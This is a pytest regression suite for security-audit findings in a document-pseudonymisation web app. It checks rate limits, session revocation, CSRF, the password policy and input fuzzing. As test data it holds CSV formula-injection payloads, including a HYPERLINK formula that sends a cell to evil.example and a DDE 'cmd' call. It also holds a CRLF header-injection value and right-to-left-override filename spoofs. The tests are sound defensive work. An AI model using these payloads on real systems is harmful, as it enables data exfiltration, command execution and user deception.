"""Regression tests for the outside security audit (issue 15), one or more per finding, named after it.

They run against the real PostgreSQL and Redis of ``tests/conftest.py`` (and a real Celery worker
where a finding involves background work).
"""
from __future__ import annotations

import pytest
from werkzeug.routing import FloatConverter, IntegerConverter

from psan.store.annotation.windows import WINDOW_TOLERANCE
from tests.documents import add_document, label_span
from tests.helpers import (
    PASSWORD,
    Auth,
    account_id,
    csrf_token,
    default_project,
    make_account,
    meta_csrf,
    new_project,
    sql,
)
from tests.people import SMITH_TEXT_A
from tests.services import TEST_SECRET
from tests.web.helpers import add_label, add_rule, annotator_client

# --- finding 1: the window-size limit ------------------------------------------------------------------------
SIZE = 300


def _annotator(app, email: str = "annotator@example.org", size: int = SIZE, role: str = "USER"):
    return annotator_client(app, email, role, window_size=size)


def _line_tokens(app, doc: int) -> dict[int, int]:
    """Token index → length in tokens of the line it belongs to."""
    text = sql(app, "SELECT text FROM document WHERE id = %s", (doc,))[0]["text"]
    rows = sql(app, "SELECT idx, start_char FROM token WHERE document_id = %s ORDER BY idx", (doc,))
    line_of = [text.count("\n", 0, r["start_char"]) for r in rows]
    lengths: dict[int, int] = {}
    for line in line_of:
        lengths[line] = lengths.get(line, 0) + 1
    return {i: lengths[line] for i, line in enumerate(line_of)}


def _assert_windows_bounded(app, doc: int, client, size: int = SIZE, rounds: int = 6) -> int:
    """Walk through several windows (deciding a span in each) and check every window's size."""
    line_len = _line_tokens(app, doc)
    seen = 0
    for _ in range(rounds):
        response = client.get("/annotate/api/window")
        assert response.status_code == 200, response.get_data(as_text=True)
        data = response.get_json()
        window = data["window"]
        if window is None:
            break
        width = window["end_token"] - window["first_token"]
        allowed = size + max(WINDOW_TOLERANCE, line_len[window["first_token"]])
        assert 0 < width <= allowed, (window, size)
        assert len(data["tokens"]) == width
        suspicious = [a for a in data["annotations"] if a["decision"] == "SUSPICIOUS"]
        seen += 1
        if not suspicious:
            break
        span = suspicious[0]
        answer = client.post("/annotate/api/decide", json={
            "document_id": doc, "first_token": span["first_token"], "end_token": span["end_token"],
            "decision": "PUBLIC", "scope": "token"})
        assert answer.status_code == 200, answer.get_data(as_text=True)
        assert client.post("/annotate/api/next").status_code == 200
    return seen


def test_finding_01_window_never_exceeds_size_list(clean_app):
    lines = [f"jan.novak{i}@example.org , Praha {i} , tel {i}" for i in range(3000)]
    lines[1500] = "Petr Svoboda , Brno 1500 , tel 1500"
    lines[2999] = "Petr Svoboda , Ostrava , tel 2999"
    doc = add_document(clean_app, "\n".join(lines), [("Petr Svoboda", "P")])
    tokens = sql(clean_app, "SELECT token_count FROM document WHERE id = %s", (doc,))[0]["token_count"]
    assert tokens > 30_000
    assert _assert_windows_bounded(clean_app, doc, _annotator(clean_app)) >= 2


def test_finding_01_list_lines_are_sentences():
    from psan.tool.tokenize import tokenize
    text = "\n".join(f"Jan Novák {i}, Praha" for i in range(50)) + "\n- item one\n- item two"
    _, sentences = tokenize(text, "cs")
    assert len(sentences) == 52
    _, prose = tokenize("The court decided that\nthe defendant,\nwho was absent, pays.", "en")
    assert len(prose) == 1


def test_finding_01_window_never_exceeds_size_transcript(clean_app):
    words = [f"slovo{i % 97}" for i in range(4200)]
    for at in (5, 2100, 4190):
        words[at:at + 2] = ["Jan", "Novák"]
    doc = add_document(clean_app, " ".join(words), [("Jan Novák", "P")], language="cs")
    assert sql(clean_app, "SELECT count(*) AS n FROM sentence WHERE document_id = %s", (doc,))[0]["n"] == 1
    assert _assert_windows_bounded(clean_app, doc, _annotator(clean_app)) >= 3


def test_finding_01_window_never_exceeds_size_one_sentence(clean_app):
    words = [f"w{i}" for i in range(10_000)]
    words[7000:7002] = ["Jan", "Novák"]
    words[9998:10_000] = ["Jan", "Novák"]
    doc = add_document(clean_app, " ".join(words) + ".", [("Jan Novák", "P")])
    client = _annotator(clean_app, size=120)
    assert _assert_windows_bounded(clean_app, doc, client, size=120) >= 2
    # an admin opening the document anywhere gets the same limit
    admin = _annotator(clean_app, "admin@example.org", size=200, role="ADMIN")
    for start in (0, 5000, 9990):
        response = admin.post("/annotate/api/open", json={"document_id": doc, "start": start})
        assert response.status_code == 200, response.get_data(as_text=True)
        window = response.get_json()["window"]
        assert window["first_token"] <= start < window["end_token"]
        assert window["end_token"] - window["first_token"] <= 200


# --- finding 2: CSV formula injection --------------------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_CELLS = (EVIL, "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx")


def _csv_rows(response) -> list[list[str]]:
    import csv
    import io
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"), newline="")))


def _assert_no_formula(rows: list[list[str]], must_contain: str = EVIL) -> None:
    cells = [cell for row in rows for cell in row]
    assert "'" + must_contain in cells, cells
    for cell in cells:
        assert not cell or cell[0] not in "=+@\t\r" and not (cell[0] == "-" and not cell[1:].replace(".", "")
                                                             .isdigit()), cell


@pytest.fixture()
def evil_project(clean_app):
    app = clean_app
    pid = new_project(app, "Evil project")
    doc = add_document(app, SMITH_TEXT_A, [("John Smith", "PERSON")], project_id=pid, name="a.txt")
    sql(app, "UPDATE rule SET confidence = -1 WHERE project_id = %s AND type = 'NE_TYPE'", (pid,))
    label = add_label(app, pid, EVIL, "PERSON", replacement="@SUM(1+1)")
    add_rule(app, pid, "+cmd", label_id=label)
    label_span(app, doc, "John", label)
    sql(app, "INSERT INTO decision_log (project_id, document_id, first_token, end_token, action, decision, "
             "label_name) VALUES (%s, %s, 0, 2, 'decide', 'PRIVATE', %s)", (pid, doc, EVIL))
    return {"pid": pid, "doc": doc}


def test_finding_02_csv_injection_project_key(admin_client, evil_project):
    from psan.tool.keyfile import parse_key
    response = admin_client.get(f"/documents/project/{evil_project['pid']}/key.csv?reason=audit+check")
    _assert_no_formula(_csv_rows(response))
    # the escaping is undone on reading: the key still restores the original
    key = parse_key(response.get_data(as_text=True), "csv")
    assert {e["label_name"] for entries in key.entries.values() for e in entries} >= {EVIL}


def test_finding_02_csv_injection_labels_export(admin_client, evil_project):
    _assert_no_formula(_csv_rows(admin_client.get(f"/labels/{evil_project['pid']}/export.csv")))


def test_finding_02_csv_injection_rules_export(admin_client, evil_project):
    _assert_no_formula(_csv_rows(admin_client.get(f"/rules/{evil_project['pid']}/export.csv")), "+cmd")


def test_finding_02_csv_injection_history_export(admin_client, evil_project):
    _assert_no_formula(_csv_rows(admin_client.get(f"/documents/{evil_project['doc']}/history.csv")))


def test_finding_02_csv_injection_tool_keys():
    import csv
    import io

    from psan.tool.csvcell import escape_cell, unescape_cell
    from psan.tool.keyfile import CSV_FIELDS, key_csv
    from psan.tool.surrogates.key import PseudonymKey
    for value in (*EVIL_CELLS, "'=x", "''", "-1", "0.5", "plain"):
        assert unescape_cell(escape_cell(value)) == value
    entry = {"document": "1", "original_start": 0, "original_end": 4, "original_text": "=1+1", "category": "PERSON",
             "label": 1, "label_name": EVIL, "replacement": "@x", "output_start": 0, "output_end": 2,
             "source": "label"}
    text = key_csv([entry])
    _assert_no_formula([list(r) for r in csv.reader(io.StringIO(text, newline=""))][1:])
    assert set(CSV_FIELDS) >= {"label_name", "original_text"}
    key = PseudonymKey([{k: entry.get(k) for k in entry}])
    written = key.to_csv()
    _assert_no_formula([list(r) for r in csv.reader(io.StringIO(written, newline=""))][1:], "=1+1")
    assert PseudonymKey.from_csv(written).entries[0]["original_text"] == "=1+1"


# --- finding 11: downloads of personal data are never stored by caches ----------------------------------------
def test_finding_11_personal_data_downloads_are_no_store(admin_client, evil_project):
    doc, pid = evil_project["doc"], evil_project["pid"]
    sql_xml = "UPDATE document SET tagged_xml = '<submission/>' WHERE id = %s"
    sql(admin_client.application, sql_xml, (doc,))
    paths = [f"/documents/{doc}/download/{kind}" for kind in ("input", "xml", "tag", "remove", "pseudonymize")]
    paths += [f"/documents/project/{pid}/download/{kind}" for kind in ("input", "tag", "pseudonymize")]
    paths += [f"/documents/project/{pid}/key.json?reason=audit+check",
              f"/documents/project/{pid}/key.csv?reason=audit+check",
              f"/documents/{doc}/history.json", f"/documents/{doc}/history.csv", f"/labels/{pid}/export.csv"]
    for path in paths:
        response = admin_client.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert response.headers["Cache-Control"] == "no-store", path
        assert "no-cache" not in response.headers["Cache-Control"]
        content_type = response.headers["Content-Type"]
        assert content_type.count("charset") <= 1, (path, content_type)
    assert admin_client.get(f"/documents/{doc}/download/input").headers["Content-Type"] == "text/plain; charset=utf-8"
    # static assets may still be cached
    assert "no-store" not in admin_client.get("/static/psan.css").headers.get("Cache-Control", "")


# --- finding 10: X-Forwarded-For cannot bypass the login rate limit --------------------------------------------
def test_finding_10_forwarded_for_is_not_trusted_by_default(client, clean_app):
    from flask import Flask

    from psan.runtime.settings import load_config
    production = Flask("psan")
    load_config(production, {"PSAN_CONFIG": "production", "SECRET_KEY": TEST_SECRET, "DATABASE_URL": "postgresql://x"},
                environ={})
    assert production.config["PROXY_FIX_X_FOR"] == 0
    assert clean_app.config["PROXY_FIX_X_FOR"] == 0
    token = csrf_token(client)
    statuses = [client.post("/auth/login", data={"email": "x@example.org", "password": "wrong password",
                                                 "csrf_token": token},
                            headers={"X-Forwarded-For": f"203.0.113.{n}"}).status_code for n in range(12)]
    assert statuses[-1] == 429 and statuses.count(429) == 2, statuses


def test_finding_10_compose_trusts_exactly_its_proxy():
    from pathlib import Path
    compose = (Path(__file__).resolve().parents[2] / "docker-compose.yaml").read_text()
    assert "PSAN_PROXY_FIX_X_FOR: ${PSAN_PROXY_FIX_X_FOR:-1}" in compose


# --- finding 13: every Redis key carries the instance's prefix ------------------------------------------------
def test_finding_13_redis_keys_carry_the_instance_prefix(clean_app, celery_worker):
    import redis

    from psan.celery.tasks import health_check
    prefix = clean_app.config["REDIS_KEY_PREFIX"]
    assert prefix != "psan"
    store = redis.Redis.from_url(clean_app.config["REDIS_URL"])
    with clean_app.app_context():
        result = health_check.delay("prefixed")
        assert result.get(timeout=30)["nonce"] == "prefixed"
    assert store.exists(f"{prefix}:celery-task-meta-{result.id}")
    assert not store.exists(f"celery-task-meta-{result.id}")
    # the queue bindings of this instance are prefixed too
    assert any(k.decode().startswith(f"{prefix}:_kombu.binding.") for k in store.scan_iter(f"{prefix}:_kombu*"))


RATE_LIMIT_PROBE = """
import sys, uuid
import redis
from psan import create_app
from tests.services import app_config
from tests.helpers import csrf_token
prefix = f"inst-{uuid.uuid4().hex[:8]}"
config = app_config(sys.argv[1], sys.argv[2], REDIS_KEY_PREFIX=prefix)
config.pop("RATELIMIT_KEY_PREFIX")
app = create_app(config)
client = app.test_client()
client.post("/auth/login", data={"email": "x@example.org", "password": "wrong", "csrf_token": csrf_token(client)})
celery = app.extensions["celery"].conf
keys = [k.decode() for k in redis.Redis.from_url(sys.argv[2]).scan_iter(f"*{prefix}*")]
print(prefix, app.config["RATELIMIT_KEY_PREFIX"], app.config["RATELIMIT_STORAGE_OPTIONS"]["key_prefix"],
      celery.broker_transport_options["global_keyprefix"], celery.result_backend_transport_options["global_keyprefix"],
      all(k.startswith(prefix + ":LIMITS:LIMITER/" + prefix + "/") for k in keys) and len(keys) > 0)
"""


def test_finding_13_rate_limit_keys_follow_redis_key_prefix(database_url, redis_url):
    """A fresh process (the limiter extension is global): an instance's login counters live under its prefix."""
    import subprocess
    import sys
    from pathlib import Path
    out = subprocess.run([sys.executable, "-c", RATE_LIMIT_PROBE, database_url, redis_url], capture_output=True,
                         text=True, check=True, timeout=120, cwd=Path(__file__).resolve().parents[2]).stdout.split()
    prefix = out[0]
    assert out[1:] == [prefix, f"{prefix}:LIMITS", f"{prefix}:", f"{prefix}:", "True"]


# --- finding 6: sessions end server-side -----------------------------------------------------------------------
def _saved_cookies(client) -> dict[str, str]:
    return {name: client.get_cookie(name).value for name in ("session", "remember_token") if client.get_cookie(name)}


def _replay(app, cookies: dict[str, str]) -> int:
    thief = app.test_client()
    for name, value in cookies.items():
        thief.set_cookie(name, value)
    return thief.get("/auth/password").status_code


def _remembered_login(app, email: str):
    client = app.test_client()
    response = client.post("/auth/login", data={"email": email, "password": PASSWORD, "remember": "y",
                                                 "csrf_token": csrf_token(client)})
    assert response.status_code == 302
    cookies = _saved_cookies(client)
    assert set(cookies) == {"session", "remember_token"} and _replay(app, cookies) == 200
    return client, cookies


def test_finding_06_logout_ends_saved_session_and_remember_cookies(clean_app):
    make_account(clean_app, "a@example.org")
    client, cookies = _remembered_login(clean_app, "a@example.org")
    assert _replay(clean_app, {"remember_token": cookies["remember_token"]}) == 200
    assert client.post("/auth/logout", data={"csrf_token": csrf_token(client, "/auth/password")}).status_code == 302
    assert _replay(clean_app, cookies) == 302
    assert _replay(clean_app, {"session": cookies["session"]}) == 302
    assert _replay(clean_app, {"remember_token": cookies["remember_token"]}) == 302


def test_finding_06_deactivation_ends_sessions_for_good(clean_app, admin_client):
    make_account(clean_app, "b@example.org")
    _, cookies = _remembered_login(clean_app, "b@example.org")
    uid = account_id(clean_app, "b@example.org")
    token = csrf_token(admin_client, f"/users/{uid}")
    form = {"name": "b", "role": "USER", "window_size": 300, "csrf_token": token}
    assert admin_client.post(f"/users/{uid}", data=form).status_code == 302  # "active" unticked
    assert sql(clean_app, "SELECT active FROM account WHERE id = %s", (uid,))[0]["active"] is False
    assert admin_client.post(f"/users/{uid}", data={**form, "active": "y"}).status_code == 302
    assert _replay(clean_app, cookies) == 302
    assert _replay(clean_app, {"remember_token": cookies["remember_token"]}) == 302


def test_finding_06_remember_cookie_lifetime_is_short_and_configurable(clean_app):
    make_account(clean_app, "c@example.org")
    client, _ = _remembered_login(clean_app, "c@example.org")
    assert clean_app.config["REMEMBER_COOKIE_DURATION"] == 14 * 24 * 3600
    cookie = client.get_cookie("remember_token")
    import datetime
    assert cookie.expires is not None
    left = cookie.expires.replace(tzinfo=datetime.UTC) - datetime.datetime.now(datetime.UTC)
    assert datetime.timedelta(days=13) < left <= datetime.timedelta(days=14, minutes=1)


# --- finding 9: CSRF rotation at login, rate-limited password change, password policy -------------------------
def test_finding_09_csrf_token_rotates_at_login(clean_app):
    make_account(clean_app, "d@example.org")
    client = clean_app.test_client()
    before = csrf_token(client)
    with client.session_transaction() as session:
        raw_before = session["csrf_token"]
    assert client.post("/auth/login", data={"email": "d@example.org", "password": PASSWORD,
                                            "csrf_token": before}).status_code == 302
    with client.session_transaction() as session:
        assert session.get("csrf_token") != raw_before
    after = csrf_token(client, "/auth/password")
    assert after != before
    # the token from before the login no longer works
    assert client.post("/auth/logout", data={"csrf_token": before}).status_code == 400
    assert client.post("/auth/logout", data={"csrf_token": after}).status_code == 302


def test_finding_09_password_change_is_rate_limited(clean_app):
    make_account(clean_app, "e@example.org")
    client = clean_app.test_client()
    assert Auth(client).login("e@example.org").status_code == 302
    token = csrf_token(client, "/auth/password")
    statuses = [client.post("/auth/password", data={"current": f"guess number {n}", "password": "Xk3-plover-tangent",
                                                     "confirm": "Xk3-plover-tangent", "csrf_token": token}).status_code
                for n in range(11)]
    assert statuses[:10] == [200] * 10 and statuses[10] == 429, statuses


@pytest.mark.parametrize("password", ["aaaaaaaaaa", "1234567890", "abcdefghij", "password123", "qwertyuiop",
                                      "iloveyou2024", "f@example.org", "F@Example.org", "abcabcabcabc",
                                      "correct horse battery staple"])
def test_finding_09_weak_passwords_are_refused(clean_app, password):
    make_account(clean_app, "f@example.org")
    client = clean_app.test_client()
    assert Auth(client).login("f@example.org").status_code == 302
    response = client.post("/auth/password", data={"current": "correct horse battery staple", "password": password,
                                                   "confirm": password,
                                                   "csrf_token": csrf_token(client, "/auth/password")})
    assert response.status_code == 200
    assert "invalid-feedback" in response.get_data(as_text=True) or "is-invalid" in response.get_data(as_text=True)
    assert Auth(clean_app.test_client()).login("f@example.org").status_code == 302  # the old password still works


def test_finding_09_policy_applies_to_every_password_form(clean_app, admin_client):
    from psan.identity.password_policy import common_passwords
    assert len(common_passwords()) > 5000 and "password1" in common_passwords()
    token = csrf_token(admin_client, "/users/new")
    base = {"name": "G", "role": "USER", "window_size": 300, "active": "y", "csrf_token": token}
    weak = admin_client.post("/users/new", data={**base, "email": "g@example.org", "password": "g@example.org"})
    assert weak.status_code == 200 and not sql(clean_app, "SELECT 1 FROM account WHERE email = 'g@example.org'")
    good = admin_client.post("/users/new", data={**base, "email": "g@example.org", "password": "Xk3-plover-tangent"})
    assert good.status_code == 302
    # a reset link refuses the account's e-mail too
    from psan.identity import accounts, signing
    with clean_app.test_request_context():
        link_token = signing.make_reset_token(accounts.get_by_email("g@example.org"))
    client = clean_app.test_client()
    page = f"/auth/reset/{link_token}"
    response = client.post(page, data={"password": "G@example.org", "confirm": "G@example.org",
                                       "csrf_token": csrf_token(client, page)})
    assert response.status_code == 200 and "e-mail" in response.get_data(as_text=True)


# --- finding 7: bad input gets a 400 with a message, never a 500 ----------------------------------------------
DEEP_ARRAY = "[" * 100_000 + "]" * 100_000
DEEP_OBJECT = '{"a":' * 100_000 + "1" + "}" * 100_000
GENERIC_FIELDS = ("name", "email", "password", "confirm", "current", "text", "title", "pipeline", "language",
                  "category", "replacement", "condition", "label", "q", "project", "next", "role")


def _routes(app):
    """Every page route (the token API under /api/v1/ answers a session 401 first; tests/api fuzzes it with tokens)."""
    for rule in app.url_map.iter_rules():
        if rule.endpoint == "static" or rule.endpoint.endswith(".static") or rule.rule.startswith("/api/v1/"):
            continue
        args = {name: 1 if isinstance(conv, (IntegerConverter, FloatConverter)) else "x"
                for name, conv in rule._converters.items()}
        path = rule.build(args, append_unknown=False)[1]
        for method in sorted(rule.methods - {"HEAD", "OPTIONS"}):
            yield rule.endpoint, method, path


def _form_fields(client, path: str) -> set[str]:
    import re
    response = client.get(path)
    if response.status_code != 200 or response.mimetype != "text/html":
        return set()
    return set(re.findall(r'<(?:input|textarea|select)[^>]*\bname="([^"]+)"', response.get_data(as_text=True)))


def _assert_400_with_message(response, what) -> None:
    assert response.status_code == 400, (what, response.status_code, response.get_data(as_text=True)[:300])
    if response.is_json:
        assert response.get_json()["error"], what
    else:
        body = response.get_data(as_text=True)
        assert "NUL" in body or "nested too deeply" in body, (what, body[:500])


def test_finding_07_fuzz_every_form_and_json_endpoint(clean_app, admin_client):
    from psan.web.extensions import limiter
    token = csrf_token(admin_client, "/auth/password")
    checked = 0
    for endpoint, method, path in _routes(clean_app):
        if method == "GET":
            with clean_app.app_context():
                limiter.reset()
            _assert_400_with_message(admin_client.get(path, query_string={"q": "a\x00b"}), (endpoint, "query"))
            continue
        fields = (_form_fields(admin_client, path) | set(GENERIC_FIELDS)) - {"csrf_token"}
        form = {name: "x\x00y" for name in fields}
        bodies = {"form NUL": {"data": {**form, "csrf_token": token}},
                  "JSON surrogate": {"data": '{"name": "\\ud800", "document_id": 1, "pipeline": "\\ud800"}'},
                  "JSON deep array": {"data": DEEP_ARRAY},
                  "JSON deep object": {"data": DEEP_OBJECT},
                  "JSON NUL": {"data": '{"name": "a\\u0000b", "label": "\\u0000"}'},
                  "JSON nested pipeline": {"data": '{"pipeline": ' + DEEP_OBJECT + "}"}}
        for what, kwargs in bodies.items():
            headers = {"X-CSRFToken": token}
            if what.startswith("JSON"):
                kwargs = {**kwargs, "content_type": "application/json"}
            with clean_app.app_context():
                limiter.reset()
            response = admin_client.open(path, method=method, headers=headers, **kwargs)
            _assert_400_with_message(response, (endpoint, method, what))
            checked += 1
    assert checked >= 6 * 20


def test_finding_07_anonymous_forms_with_nul(client):
    for path in ("/auth/login", "/auth/forgot"):
        response = client.post(path, data={"email": "a\x00@example.org", "password": "x\x00",
                                           "csrf_token": csrf_token(client, path)})
        _assert_400_with_message(response, path)


def test_finding_07_nested_pipeline_in_project_form(admin_client):
    token = csrf_token(admin_client, "/projects/new")
    deep = "[" * 9000 + "]" * 9000  # within the field's 20,000 characters
    response = admin_client.post("/projects/new", data={"name": "deep", "language": "en", "pipeline": deep,
                                                       "public_threshold": 1, "private_threshold": -1,
                                                       "csrf_token": token})
    _assert_400_with_message(response, "pipeline")
    nested = '{"ner": ' + "[" * 40 + "]" * 40 + "}"
    response = admin_client.post("/projects/new", data={"name": "deep", "language": "en", "pipeline": nested,
                                                       "public_threshold": 1, "private_threshold": -1,
                                                       "csrf_token": token})
    _assert_400_with_message(response, "pipeline 40")


def test_finding_07_crlf_in_next_after_login(clean_app):
    make_account(clean_app, "h@example.org")
    client = clean_app.test_client()
    token = csrf_token(client)
    response = client.post("/auth/login?next=/x%0d%0aSet-Cookie:%20evil=1",
                           data={"email": "h@example.org", "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    assert response.headers["Location"] == "/" and "evil" not in str(response.headers)


# --- finding 8: bidirectional and zero-width characters in names ----------------------------------------------
RLO, ZWSP = "\u202e", "\u200b"


def test_finding_08_controls_are_stripped_from_names(admin_client, clean_app, celery_worker):
    import io

    token = csrf_token(admin_client, "/users/new")
    assert admin_client.post("/users/new", data={"email": "i@example.org", "name": f"Eve{RLO}gnp.exe{ZWSP}",
                                                 "role": "USER", "window_size": 300, "active": "y",
                                                 "password": "Xk3-plover-tangent", "csrf_token": token}
                             ).status_code == 302
    assert sql(clean_app, "SELECT name FROM account WHERE email = 'i@example.org'")[0]["name"] == "Evegnp.exe"
    token = csrf_token(admin_client, "/projects/new")
    assert admin_client.post("/projects/new", data={"name": f"{RLO}Secret{ZWSP} files", "language": "en",
                                                   "public_threshold": 1, "private_threshold": -1,
                                                   "csrf_token": token}).status_code == 302
    assert sql(clean_app, "SELECT 1 FROM project WHERE name = 'Secret files'")
    only_controls = admin_client.post("/projects/new", data={"name": RLO + ZWSP, "language": "en",
                                                            "public_threshold": 1, "private_threshold": -1,
                                                            "csrf_token": token})
    assert only_controls.status_code == 200 and "The name is empty" in only_controls.get_data(as_text=True)
    token = csrf_token(admin_client, "/documents/upload")
    response = admin_client.post("/documents/upload", data={
        "project": default_project(clean_app), "language": "", "csrf_token": token,
        "files": (io.BytesIO(b"Hello world."), f"report{RLO}txt.exe{ZWSP}.txt")}, content_type="multipart/form-data")
    assert response.status_code in (200, 302)
    assert sql(clean_app, "SELECT name FROM document")[0]["name"] == "reporttxt.exe.txt"


def test_finding_08_label_names_with_controls_are_refused(admin_client, clean_app):
    headers = {"X-CSRFToken": meta_csrf(admin_client)}
    for name in (f"evil{RLO}", f"zero{ZWSP}width", "bom\ufeff", "\u2066isolate"):
        response = admin_client.post(f"/labels/api/{default_project(clean_app)}", json={"name": name}, headers=headers)
        assert response.status_code == 400 and "control characters" in response.get_json()["error"], name
    assert not sql(clean_app, "SELECT 1 FROM label")


def test_finding_08_user_text_is_isolated_in_pages(admin_client, clean_app):
    import re

    legacy = f"old{RLO}name"  # stored before names were cleaned
    pid = new_project(clean_app, legacy)
    sql(clean_app, "UPDATE account SET name = %s WHERE email = 'admin@example.org'", (legacy,))
    add_label(clean_app, pid, legacy)
    add_rule(clean_app, pid, legacy)
    add_document(clean_app, "Some text.", name=legacy, project_id=pid)
    assert f"<bdi>{legacy}</bdi>" in admin_client.get("/").get_data(as_text=True)  # navbar and welcome
    for path in ("/", "/users/", "/projects/", f"/labels/?project={pid}", f"/rules/?project={pid}",
                 f"/documents/?project={pid}"):
        page = admin_client.get(path).get_data(as_text=True)
        # inline user text is in <bdi>; a table cell holding only the name is a bidi paragraph of its own;
        # <option> (isolated by CSS) cannot hold markup and <title> is plain text
        rest = re.sub(r"<option[^>]*>.*?</option>|<title>.*?</title>", "", page, flags=re.S)
        isolated = rest.count(f"<bdi>{legacy}</bdi>") + len(re.findall(f"<td[^>]*>{legacy}</td>", rest))
        assert rest.count(legacy) == isolated, path
    css = admin_client.get("/static/psan.css").get_data(as_text=True)
    assert "unicode-bidi: isolate" in css
    js = admin_client.get("/static/annotate.js").get_data(as_text=True)
    assert "setIsolated(els.where" in js


# --- finding 14: mostly-UTF-8 input is not silently garbled ----------------------------------------------------
def test_finding_14_mostly_utf8_needs_confirmation_and_shows_a_preview(admin_client, clean_app, celery_worker):
    import html
    import io

    from psan.documents.upload import UploadError, decode
    damaged = b"Hello \xed\xa0\x80 John"
    with clean_app.test_request_context(), pytest.raises(UploadError, match="almost UTF-8"):
        decode(damaged, "a.txt", 1000)
    with clean_app.test_request_context():
        broken_utf8 = "Žluťoučký kůň".encode() + b"\xff"
        with pytest.raises(UploadError, match="1 bytes are invalid"):
            decode(broken_utf8, "b.txt", 1000)
        # a real single-byte text is still detected and converted without asking
        cp1250 = decode("Příliš žluťoučký kůň úpěl ďábelské ódy, řekl pan Dvořák.".encode("cp1250"), "c.txt", 1000)
        assert cp1250.text.startswith("Příliš") and cp1250.note
    token = csrf_token(admin_client, "/documents/upload")
    form = {"project": default_project(clean_app), "language": "", "csrf_token": token}
    refused = admin_client.post("/documents/upload", data={**form, "files": (io.BytesIO(damaged), "a.txt")},
                                content_type="multipart/form-data")
    assert refused.status_code == 400
    page = html.unescape(refused.get_data(as_text=True))
    assert "almost UTF-8" in page and "Hello ��� John" in page  # the preview of both readings
    assert not sql(clean_app, "SELECT 1 FROM document")
    confirmed = admin_client.post("/documents/upload", data={**form, "confirm_conversion": "y",
                                                             "files": (io.BytesIO(damaged), "a.txt")},
                                  content_type="multipart/form-data")
    assert confirmed.status_code == 302
    [doc] = sql(clean_app, "SELECT text FROM document")
    assert doc["text"].startswith("Hello ") and doc["text"].endswith(" John")
